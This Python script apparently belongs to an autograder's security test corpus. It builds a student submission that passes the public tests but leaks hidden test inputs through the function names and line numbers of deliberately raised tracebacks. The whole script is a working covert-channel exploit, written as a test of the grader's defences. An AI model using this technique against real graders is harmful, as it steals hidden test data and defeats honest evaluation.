"""Builds 03_traceback_place_exfiltration.py. The only data it embeds are fingerprints of the four
public cases' X (from the students' kit, public_data.json), so the spy can tell a hidden call from
a public one. Run: .venv/bin/python tests/corpora/attacks2/03_build_spy.py
"""
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.dirname(HERE))))  # the checkout

from autograder.otter.public_data import public_data
from autograder.core.child import codec
from labs.self_attention import LAB

FUNCTIONS = 4096  # 12 bits: which defined function name the hidden frame names
REGION = 4096  # 12 bits: which line of the region the hidden frame points at

HEAD = '''"""Attack 03 (hidden values, after publication): hidden inputs carried out through the one
thing the feedback tells of a hidden failure: where the error was raised.

docs/SECURITY.md keeps of a hidden test's error only "its code and ... the cell and line, and that
line read from the grader's own copy of the submission", and calls what is left "a few bits per
hidden test". But the child chooses the line number (and the function name) of the frame it
reports: it compiles a one-line function with this file's own name at any line it likes. With
4096 defined function names and a region of 4096 non-blank lines, one hidden error carries 24
bits; every step shows one, so six steps carry 18 bytes: here the first nine values of the first
hidden case's X, as float16. Public tests all pass (this is a correct solution otherwise).
"""
import sys

import numpy as np
import pandas as pd

PUBLIC_X = {PUBLIC}
_FILE = sys._getframe().f_code.co_filename  # the name the grader gave this file's cell
STATE = {"stream": None, "told": set()}
STEP_INDEX = {"make_qkv": 0, "scores": 1, "softmax": 2, "mix": 3, "self_attention": 4, "most_attended": 5}


def _fingerprint(X):
    X = np.asarray(X, dtype=float)
    return (X.shape, round(float(X.sum()), 6))


def _hidden(X):
    return _fingerprint(X) not in PUBLIC_X


def _remember(X):
    if STATE["stream"] is None:
        STATE["stream"] = np.asarray(X, dtype=float).ravel().astype("<f2").tobytes() + bytes(18)


def _tell(step):
    """Raise from a frame whose line and function name spell the step's 3 bytes of the stream."""
    k = STEP_INDEX[step]
    STATE["told"].add(step)
    chunk = STATE["stream"][3 * k:3 * k + 3]
    value = int.from_bytes(chunk, "big")
    function, line = value >> 12, REGION_FIRST + (value & 0xFFF)
    source = "\\n" * (line - 2) + f"def f{function:04d}():\\n    raise ValueError('x')\\n"
    scope = {}
    exec(compile(source, _FILE, "exec"), scope)
    scope[f"f{function:04d}"]()


def _due(step):
    return STATE["stream"] is not None and step not in STATE["told"]


def make_qkv(X, W_Q, W_K, W_V):
    if _hidden(X):
        _remember(X)
        if _due("make_qkv"):
            _tell("make_qkv")
    return X @ W_Q, X @ W_K, X @ W_V


def scores(Q, K):
    if _due("scores"):
        _tell("scores")
    return Q @ K.T


def softmax(x):
    if _due("softmax"):
        _tell("softmax")
    x = np.asarray(x, dtype=float)
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def mix(weights, V):
    if _due("mix"):
        _tell("mix")
    return weights @ V


def self_attention(X, W_Q, W_K, W_V):
    if _hidden(X):  # a child of its own: it reads the same first hidden X again
        _remember(X)
        if _due("self_attention"):
            _tell("self_attention")
    Q, K, V = X @ W_Q, X @ W_K, X @ W_V
    s = Q @ K.T / np.sqrt(K.shape[1])
    e = np.exp(s - s.max(axis=-1, keepdims=True))
    w = e / e.sum(axis=-1, keepdims=True)
    return w @ V, w


def most_attended(weights, words):
    if _due("most_attended"):
        _tell("most_attended")
    return pd.DataFrame(weights, index=words, columns=words).idxmax(axis=1).to_dict()


# The function names a hidden frame may name (each must be defined in this file's text).
'''


def main():
    data = public_data(LAB)
    prints = []
    for case in data["cases"]:
        X = codec.decode(case["inputs"]["X"])
        prints.append(((tuple(X.shape)), round(float(X.sum()), 6)))
    head = HEAD.replace("{PUBLIC}", repr(set(prints)))
    lines = head.split("\n")
    body = [f"def f{i:04d}(): pass" for i in range(FUNCTIONS)]
    first_region = len(lines) + len(body) + 3  # 1-based number of the region's first line
    body += ["", f"# The region the hidden frames point into: {REGION} non-blank lines."]
    region = ["# ." for _ in range(REGION)]
    text = "\n".join(lines + body + region) + "\n"
    text = text.replace("REGION_FIRST + (value", f"{first_region} + (value")
    check = text.split("\n")
    assert all(l.strip() for l in check[first_region - 1:first_region - 1 + REGION]), "region"
    assert check[first_region - 1] == "# ." and check[first_region - 2].startswith("# The region")
    path = os.path.join(HERE, "03_traceback_place_exfiltration.py")
    with open(path, "w", encoding="utf-8") as handle:
        handle.write(text)
    print("wrote", path, len(text), "bytes; region starts at line", first_region)


if __name__ == "__main__":
    main()
